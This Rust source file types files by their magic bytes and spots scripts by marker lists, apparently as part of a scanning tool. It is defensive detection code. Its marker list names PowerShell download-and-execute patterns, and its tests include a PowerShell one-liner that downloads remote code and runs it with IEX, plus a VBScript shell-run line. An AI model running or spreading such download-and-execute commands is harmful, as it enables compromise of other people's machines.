//! File types from the first bytes of a file (the contract's `magic`).
//!
//! Binary formats are recognised by their signatures; archives that are
//! zip inside (JAR, OOXML) by the names of their first entries, which
//! appear in clear in the local file headers; text by its bytes, then
//! HTML and scripts by markers that plain prose rarely has.

/// The type of a file, as the contract names it.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Magic {
    Pe,
    Elf,
    Macho,
    Zip,
    Jar,
    Ooxml,
    Ole,
    Pdf,
    Rar,
    SevenZip,
    Gzip,
    Cab,
    Script,
    Html,
    Text,
    Unknown,
}

impl Magic {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Pe => "pe",
            Self::Elf => "elf",
            Self::Macho => "macho",
            Self::Zip => "zip",
            Self::Jar => "jar",
            Self::Ooxml => "ooxml",
            Self::Ole => "ole",
            Self::Pdf => "pdf",
            Self::Rar => "rar",
            Self::SevenZip => "7z",
            Self::Gzip => "gzip",
            Self::Cab => "cab",
            Self::Script => "script",
            Self::Html => "html",
            Self::Text => "text",
            Self::Unknown => "unknown",
        }
    }
}

/// Haystacks up to this long are searched window by window: setting up a
/// memmem searcher costs more than that (a body of a few bytes is typed
/// with some thirty markers).
const SHORT_HAY: usize = 64;

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    if needle.is_empty() || hay.len() < needle.len() {
        return false;
    }
    if hay.len() <= SHORT_HAY {
        return hay
            .windows(needle.len())
            .any(|w| w[0] == needle[0] && w == needle);
    }
    memchr::memmem::find(hay, needle).is_some()
}

/// Text markers (HTML, scripts) are looked for in this many first bytes:
/// they show early, and typing stays cheap for every body.
const TEXT_SCAN: usize = 2048;

fn le32(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_le_bytes(b.get(at..at + 4)?.try_into().ok()?))
}

fn be32(b: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_be_bytes(b.get(at..at + 4)?.try_into().ok()?))
}

/// Types a file from its first bytes (the more, up to
/// [`super::HEAD_LEN`], the better for zip-based and text formats).
pub fn detect(head: &[u8]) -> Magic {
    binary(head).unwrap_or_else(|| textual(head))
}

fn binary(h: &[u8]) -> Option<Magic> {
    let m = if h.starts_with(b"MZ") && is_pe(h) {
        Magic::Pe
    } else if h.starts_with(b"\x7fELF") {
        Magic::Elf
    } else if is_macho(h) {
        Magic::Macho
    } else if h.starts_with(b"PK\x03\x04") {
        zip_kind(h)
    } else if h.starts_with(b"PK\x05\x06") || h.starts_with(b"PK\x07\x08") {
        Magic::Zip
    } else if h.starts_with(&[0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]) {
        Magic::Ole
    } else if h.starts_with(b"Rar!\x1a\x07\x00") || h.starts_with(b"Rar!\x1a\x07\x01\x00") {
        Magic::Rar
    } else if h.starts_with(&[0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]) {
        Magic::SevenZip
    } else if h.starts_with(&[0x1f, 0x8b]) {
        Magic::Gzip
    } else if h.starts_with(b"MSCF\0\0\0\0") {
        Magic::Cab
    } else if contains(&h[..h.len().min(1024)], b"%PDF-") {
        // Readers accept the header anywhere in the first 1024 bytes.
        Magic::Pdf
    } else {
        return None;
    };
    Some(m)
}

/// `MZ`, and `PE\0\0` where `e_lfanew` points when that lies in view.
/// A DOS stub whose PE header is beyond the bytes seen still counts: the
/// transfer is an executable either way.
fn is_pe(h: &[u8]) -> bool {
    let Some(lfanew) = le32(h, 0x3c) else {
        return h.len() < 0x40;
    };
    let at = lfanew as usize;
    match h.get(at..at.saturating_add(4)) {
        Some(sig) => sig == b"PE\0\0",
        None => true,
    }
}

fn is_macho(h: &[u8]) -> bool {
    match be32(h, 0) {
        Some(0xfeed_face | 0xfeed_facf | 0xcefa_edfe | 0xcffa_edfe) => true,
        // Fat (universal) binaries share 0xCAFEBABE with Java classes;
        // a class has its major version (≥ 45) here, a fat header its
        // architecture count, which is small (file(1) uses the same rule).
        Some(0xcafe_babe | 0xcafe_babf) => be32(h, 4).is_some_and(|n| (1..20).contains(&n)),
        _ => false,
    }
}

/// The names of the zip's leading entries, walked through the local file
/// headers as far as the head allows.
fn zip_names(h: &[u8]) -> Vec<&[u8]> {
    let mut names = Vec::new();
    let mut at = 0usize;
    while names.len() < 64 && h.get(at..at + 4) == Some(b"PK\x03\x04") {
        let (Some(flags), Some(csize)) = (h.get(at + 6..at + 8), le32(h, at + 18)) else {
            break;
        };
        let (Some(nlen), Some(xlen)) = (h.get(at + 26..at + 28), h.get(at + 28..at + 30)) else {
            break;
        };
        let nlen = usize::from(u16::from_le_bytes([nlen[0], nlen[1]]));
        let xlen = usize::from(u16::from_le_bytes([xlen[0], xlen[1]]));
        let Some(name) = h.get(at + 30..at + 30 + nlen) else {
            break;
        };
        names.push(name);
        // With a data descriptor (flag bit 3) the size is not known here.
        if flags[0] & 0x08 != 0 {
            break;
        }
        at = at + 30 + nlen + xlen + csize as usize;
    }
    names
}

fn zip_kind(h: &[u8]) -> Magic {
    let names = zip_names(h);
    let ooxml = |n: &[u8]| {
        n == b"[Content_Types].xml"
            || n.starts_with(b"word/")
            || n.starts_with(b"xl/")
            || n.starts_with(b"ppt/")
    };
    let jar = |n: &[u8]| n.starts_with(b"META-INF/") || n.ends_with(b".class");
    // Entries past a data descriptor are out of reach by walking; their
    // names still show in clear in the head.
    let anywhere = |needle: &[u8]| contains(h, needle);
    if names.iter().any(|n| ooxml(n)) || anywhere(b"[Content_Types].xml") {
        Magic::Ooxml
    } else if names.first().is_some_and(|n| *n == b"mimetype") {
        // OpenDocument and EPUB: zip with a META-INF/ that is not a JAR's.
        Magic::Zip
    } else if names.iter().any(|n| jar(n)) || anywhere(b"META-INF/MANIFEST.MF") {
        Magic::Jar
    } else {
        Magic::Zip
    }
}

/// Is this text? No control bytes other than whitespace (and ESC); UTF-8
/// and 8-bit encodings such as Latin-1 both pass, binary formats do not.
fn is_text(h: &[u8]) -> bool {
    let control = |b: u8| b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b);
    !h.is_empty() && !h.iter().any(|&b| control(b) || b == 0x7f)
}

fn textual(h: &[u8]) -> Magic {
    let h = h.strip_prefix(b"\xef\xbb\xbf").unwrap_or(h);
    if !is_text(h) {
        return Magic::Unknown;
    }
    let lower: Vec<u8> = h[..h.len().min(TEXT_SCAN)]
        .iter()
        .map(u8::to_ascii_lowercase)
        .collect();
    let start = lower
        .iter()
        .position(|b| !b.is_ascii_whitespace())
        .map_or(&lower[..0], |i| &lower[i..]);
    if start.starts_with(b"#!") {
        return Magic::Script;
    }
    let html_start = [
        &b"<!doctype html"[..],
        b"<html",
        b"<head",
        b"<body",
        b"<script",
        b"<iframe",
        b"<meta",
        b"<title",
    ];
    if html_start.iter().any(|m| start.starts_with(m))
        || (start.starts_with(b"<") && contains(&lower, b"<html"))
    {
        return Magic::Html;
    }
    if is_script(start) {
        return Magic::Script;
    }
    Magic::Text
}

/// PowerShell, VBScript, JScript/JavaScript and batch files, by markers
/// that prose and data formats seldom carry. One strong marker is enough;
/// weak ones (common keywords) need company.
fn is_script(t: &[u8]) -> bool {
    const STRONG: &[&[u8]] = &[
        // batch
        b"@echo off",
        b"%~dp0",
        b"%comspec%",
        // PowerShell
        b"invoke-expression",
        b"iex(",
        b"iex (",
        b"new-object ",
        b"-encodedcommand",
        b"frombase64string(",
        b"downloadstring(",
        b"downloadfile(",
        b"invoke-webrequest",
        b"set-executionpolicy",
        b"[system.",
        b"$env:",
        // VBScript / WSH
        b"createobject(",
        b"wscript.",
        b"on error resume next",
        b"end sub",
        b"end function",
        // JScript / JavaScript
        b"activexobject",
        b"string.fromcharcode",
        b"document.write(",
        b"eval(",
    ];
    const WEAK: &[&[u8]] = &[
        b"function ",
        b"function(",
        b"var ",
        b"const ",
        b"let ",
        b"return ",
        b"=>",
        b"window.",
        b"document.",
        b"this.",
        b"\ndim ",
        b"\nset ",
        b"\ngoto ",
        b"param(",
        b"$_",
        b"write-host",
    ];
    if STRONG.iter().any(|m| contains(t, m)) {
        return true;
    }
    let weak = WEAK.iter().filter(|m| contains(t, m)).count();
    weak >= 3 && (contains(t, b";") || contains(t, b"{") || contains(t, b"\n"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        /// The window walk of short haystacks finds what memmem finds.
        #[test]
        fn contains_agrees_with_memmem(
            hay in prop::collection::vec(prop::sample::select(b"ab;{\n".to_vec()), 0..80),
            needle in prop::collection::vec(prop::sample::select(b"ab;".to_vec()), 0..4),
        ) {
            prop_assert_eq!(
                contains(&hay, &needle),
                !needle.is_empty() && memchr::memmem::find(&hay, &needle).is_some()
            );
        }
    }

    fn pe() -> Vec<u8> {
        let mut h = vec![0u8; 0x100];
        h[..2].copy_from_slice(b"MZ");
        h[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        h[0x80..0x84].copy_from_slice(b"PE\0\0");
        h
    }

    /// A zip whose local headers name `names` (stored, 3 bytes each).
    fn zip(names: &[&str]) -> Vec<u8> {
        let mut z = Vec::new();
        for n in names {
            z.extend_from_slice(b"PK\x03\x04");
            z.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
            z.extend_from_slice(&3u32.to_le_bytes()); // compressed size
            z.extend_from_slice(&3u32.to_le_bytes()); // size
            z.extend_from_slice(&(n.len() as u16).to_le_bytes());
            z.extend_from_slice(&0u16.to_le_bytes());
            z.extend_from_slice(n.as_bytes());
            z.extend_from_slice(b"abc");
        }
        z
    }

    #[test]
    fn types() {
        let mut not_pe = pe();
        not_pe[0x80] = b'X';
        let cases: Vec<(&str, Vec<u8>, Magic)> = vec![
            ("pe", pe(), Magic::Pe),
            ("mz stub, header unseen", b"MZ\x90\0".to_vec(), Magic::Pe),
            ("mz, wrong signature", not_pe, Magic::Unknown),
            ("elf", b"\x7fELF\x02\x01\x01".to_vec(), Magic::Elf),
            (
                "macho 64 le",
                vec![0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1],
                Magic::Macho,
            ),
            (
                "macho fat",
                vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2],
                Magic::Macho,
            ),
            (
                "java class",
                vec![0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52],
                Magic::Unknown,
            ),
            ("zip", zip(&["a.txt", "b.txt"]), Magic::Zip),
            (
                "jar",
                zip(&["META-INF/", "META-INF/MANIFEST.MF"]),
                Magic::Jar,
            ),
            ("jar by class", zip(&["a/B.class"]), Magic::Jar),
            (
                "docx",
                zip(&["[Content_Types].xml", "_rels/.rels"]),
                Magic::Ooxml,
            ),
            (
                "xlsx second entry",
                zip(&["docProps/app.xml", "xl/workbook.xml"]),
                Magic::Ooxml,
            ),
            (
                "odt",
                zip(&["mimetype", "META-INF/manifest.xml"]),
                Magic::Zip,
            ),
            (
                "ole",
                vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0],
                Magic::Ole,
            ),
            ("pdf", b"%PDF-1.4\n%\xe2\xe3".to_vec(), Magic::Pdf),
            ("pdf late", b"\n\n  %PDF-1.7".to_vec(), Magic::Pdf),
            ("rar4", b"Rar!\x1a\x07\x00\xcf".to_vec(), Magic::Rar),
            ("rar5", b"Rar!\x1a\x07\x01\x00".to_vec(), Magic::Rar),
            (
                "7z",
                vec![0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0, 4],
                Magic::SevenZip,
            ),
            ("gzip", vec![0x1f, 0x8b, 8, 0], Magic::Gzip),
            ("cab", b"MSCF\0\0\0\0\x10".to_vec(), Magic::Cab),
            (
                "shebang",
                b"#!/bin/sh\nrm -rf /tmp/x\n".to_vec(),
                Magic::Script,
            ),
            (
                "batch",
                b"@ECHO OFF\r\ncopy a b\r\n".to_vec(),
                Magic::Script,
            ),
            (
                "powershell",
                b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x/'))".to_vec(),
                Magic::Script,
            ),
            (
                "vbs",
                b"Set sh = CreateObject(\"WScript.Shell\")\r\nsh.Run \"calc\"".to_vec(),
                Magic::Script,
            ),
            (
                "js",
                b"var a = 1;\nfunction f(x) { return x * 2; }\nwindow.onload = f;".to_vec(),
                Magic::Script,
            ),
            (
                "html",
                b"\xef\xbb\xbf  <!DOCTYPE html><html><script>eval(1)</script>".to_vec(),
                Magic::Html,
            ),
            (
                "html comment first",
                b"<!-- x --><HTML>".to_vec(),
                Magic::Html,
            ),
            (
                "text",
                b"Hello, world.\nSecond line.\n".to_vec(),
                Magic::Text,
            ),
            (
                "utf8 text",
                "日本語のテキスト".as_bytes().to_vec(),
                Magic::Text,
            ),
            (
                "json",
                br#"{"a": [1, 2], "b": "let it be"}"#.to_vec(),
                Magic::Text,
            ),
            ("binary", vec![0, 1, 2, 3, 0xff], Magic::Unknown),
            ("empty", vec![], Magic::Unknown),
        ];
        for (name, bytes, expect) in cases {
            assert_eq!(detect(&bytes), expect, "{name}");
        }
    }

    #[test]
    fn names_are_distinct() {
        let all = [
            Magic::Pe,
            Magic::Elf,
            Magic::Macho,
            Magic::Zip,
            Magic::Jar,
            Magic::Ooxml,
            Magic::Ole,
            Magic::Pdf,
            Magic::Rar,
            Magic::SevenZip,
            Magic::Gzip,
            Magic::Cab,
            Magic::Script,
            Magic::Html,
            Magic::Text,
            Magic::Unknown,
        ];
        let names: std::collections::HashSet<_> = all.iter().map(|m| m.as_str()).collect();
        assert_eq!(names.len(), all.len());
    }
}
